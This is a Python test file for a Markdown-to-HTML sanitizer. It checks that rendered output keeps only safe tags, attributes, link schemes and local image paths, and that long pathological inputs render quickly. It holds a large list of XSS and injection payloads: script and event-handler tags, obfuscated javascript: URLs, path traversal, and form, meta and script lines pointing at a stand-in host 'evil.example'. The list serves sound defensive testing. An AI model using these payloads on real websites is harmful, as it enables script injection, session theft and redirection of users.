"""Markdown becomes HTML that can do nothing but show."""

import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kith.connect.rules import excerpt, plain, rendered

MEDIA = "/c/shanye/media/"
OURS = f"{MEDIA}{'a' * 64}.webp"
SAFE = {
    "a", "blockquote", "br", "code", "del", "em", "h2", "h3", "h4", "hr", "img", "li", "ol", "p", "pre", "s", "strong",
    "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ALLOWED = {"a": {"href", "title", "class", "rel"}, "img": {"src", "alt", "title"}, "code": {"class"}, "ol": {"start"}}


class Seen(HTMLParser):
    """Every tag with its attributes, as a browser would read them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data


def shown(text: str) -> Seen:
    return Seen(rendered(text, people={"ann": "/c/shanye/m/Ann"}, media=MEDIA))


def assert_harmless(html: str) -> None:
    for tag, attributes in Seen(html).tags:
        assert tag in SAFE, tag
        assert set(attributes) <= ALLOWED.get(tag, set()), (tag, attributes)
        if "href" in attributes:
            address = re.sub(r"[\x00-\x20]", "", attributes["href"])
            assert urlsplit(address).scheme.lower() in {"", "http", "https", "mailto"}, address
            assert attributes["rel"] == "nofollow ugc noopener"
        if tag == "img" and "src" in attributes:
            assert re.fullmatch(re.escape(MEDIA) + r"\w[\w.-]*", attributes["src"], re.ASCII), attributes


PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<style>*{display:none}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form action='https://evil.example'><input name=p><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=\"x\" style=\"width:expression(alert(1))\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://example.org \"onmouseover=alert(1)\")",
    "[x](https://example.org' onmouseover='alert(1))",
    "[x](<https://example.org\" onmouseover=\"alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/c/rival/media/x.webp)",
    f"![x]({MEDIA}../../accounts/logout/)",
    f"![x]({MEDIA}..%2f..%2faccounts/logout/)",
    f"![x]({MEDIA}%2e%2e/%2e%2e/accounts/logout/)",
    f"![x]({MEDIA}x/../../y)",
    f"![x]({MEDIA}x.webp?next=https://evil.example)",
    f"![x]({MEDIA}x.webp#y)",
    f"![x]({MEDIA})",
    f"![x\" onerror=\"alert(1)]({OURS})",
    f"![x]({OURS} \"t\\\" onerror=alert(1) x=\\\"\")",
    "![<script>alert(1)</script>](https://evil.example/x.png)",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "```html\" onclick=alert(1) x=\"\n<script>alert(1)</script>\n```",
    "``` language-x mention\nx\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "<p id=x class=y onclick=alert(1)>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "\u202e<script>alert(1)</script>",
    "@ann\"onmouseover=alert(1)",
    "@ann<script>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_payload_does_anything(text: str) -> None:
    assert_harmless(rendered(text, people={"ann": "/c/shanye/m/Ann"}, media=MEDIA))
    assert_harmless(plain(text))


pieces = st.sampled_from([*PAYLOADS, "\n", "\n\n", " ", "@ann", "`", "```\n", "> ", "- ", "|", "[", "](", ")", "!", "<", ">", "\"", "'", "&", "\\"])  # fmt: skip


@given(st.lists(pieces | st.text(max_size=8), max_size=10))
@settings(max_examples=300, deadline=None)
def test_no_mixture_does_anything(parts: list[str]) -> None:
    text = "".join(parts)
    assert_harmless(rendered(text, people={"ann": "/c/shanye/m/Ann"}, media=MEDIA))
    assert_harmless(plain(text))


def test_what_markdown_is_for_works() -> None:
    text = "# 一\n\n**粗** *斜* ~~删~~ `码`\n\n> 引\n\n1. 甲\n2. 乙\n\n| a | b |\n|:-:|---|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n---\n"
    tags = [t for t, _ in shown(text).tags]
    assert {"h2", "strong", "em", "s", "code", "blockquote", "ol", "li", "table", "th", "td", "pre", "hr"} <= set(tags)
    assert ("code", {"class": "language-python"}) in shown(text).tags


def test_a_line_break_is_kept() -> None:
    assert shown("一\n二").tags == [("p", {}), ("br", {})]


def test_our_picture_is_shown_and_a_strange_one_is_a_link() -> None:
    assert ("img", {"src": OURS, "alt": "米"}) in shown(f"![米]({OURS})").tags
    strange = shown("![米](https://evil.example/p.png)")
    assert ("a", {"href": "https://evil.example/p.png", "rel": "nofollow ugc noopener"}) in strange.tags
    assert strange.words == "米\n"
    assert shown("![](https://evil.example/p.png)").words == "https://evil.example/p.png\n"


def test_a_picture_of_another_community_is_not_shown_here() -> None:
    assert not [t for t, _ in shown(f"![x]({OURS.replace('shanye', 'duian')})").tags if t == "img"]


def test_headings_stay_below_the_pages_own() -> None:
    assert [t for t, _ in shown("# 1\n## 2\n### 3\n#### 4\n##### 5\n###### 6").tags] == [
        "h2",
        "h2",
        "h3",
        "h4",
        "h4",
        "h4",
    ]


@pytest.mark.parametrize(
    "text",
    ["[" * 20_000, "*a " * 6_666, "> " * 10_000, "`" * 20_000, "![" * 10_000, "- " * 10_000, "@ann" * 5_000, "<" * 20_000, "|a" * 10_000, "**a" * 6_666, "&" * 20_000, "[a](" * 5_000],
    ids=lambda t: t[:4],
)  # fmt: skip
def test_no_text_keeps_the_server_busy(text: str) -> None:
    begun = time.process_time()
    assert_harmless(rendered(text, people={"ann": "/c/shanye/m/Ann"}, media=MEDIA))
    assert time.process_time() - begun < 3


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a <b> & c", "<p>a &lt;b&gt; &amp; c</p>"),
        ("一\n二\n\n\n三", "<p>一<br>二</p><p>三</p>"),
        ("**不是** [标](记)", "<p>**不是** [标](记)</p>"),
        ("  \n", ""),
    ],
)
def test_a_text_that_is_no_markdown_is_shown_as_it_is(text: str, html: str) -> None:
    assert plain(text) == html


@pytest.mark.parametrize(
    ("text", "begin"),
    [
        ("# 一 **粗** [链](https://x)\n\n二", "一 粗 链 二"),
        ("![图](/c/x/media/y) 后", "后"),
        ("长" * 200, "长" * 119 + "…"),
        ("", ""),
    ],
)
def test_an_excerpt_is_one_line_without_signs(text: str, begin: str) -> None:
    assert excerpt(text) == begin
